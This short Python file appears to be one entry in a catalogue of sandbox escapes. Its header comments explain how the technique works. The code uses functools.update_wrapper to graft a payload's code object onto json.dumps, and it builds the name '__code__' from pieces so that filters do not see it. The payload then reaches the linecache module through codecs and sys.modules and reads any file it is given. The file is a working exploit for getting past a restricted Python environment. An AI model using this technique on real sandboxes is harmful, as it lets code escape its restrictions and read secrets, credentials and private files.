# family: stdlib that runs strings
# escape: update_wrapper(*args) hides the assigned name "__code__"; json.dumps runs the payload's code with the json
# module's globals, where the payload's unbound name `codecs` is the codecs module, whose sys.modules hands out
# linecache (loaded by dataclasses' inspect import), which reads any file.
import dataclasses
import functools
import json

def payload(path, *args, **kwargs):
    return codecs.sys.modules["linecache"].getlines(path)

def tool(path: str, word: str = "code") -> list:
    functools.update_wrapper(*(json.dumps, payload, ("__" + word + "__",), ()))
    return json.dumps(path)
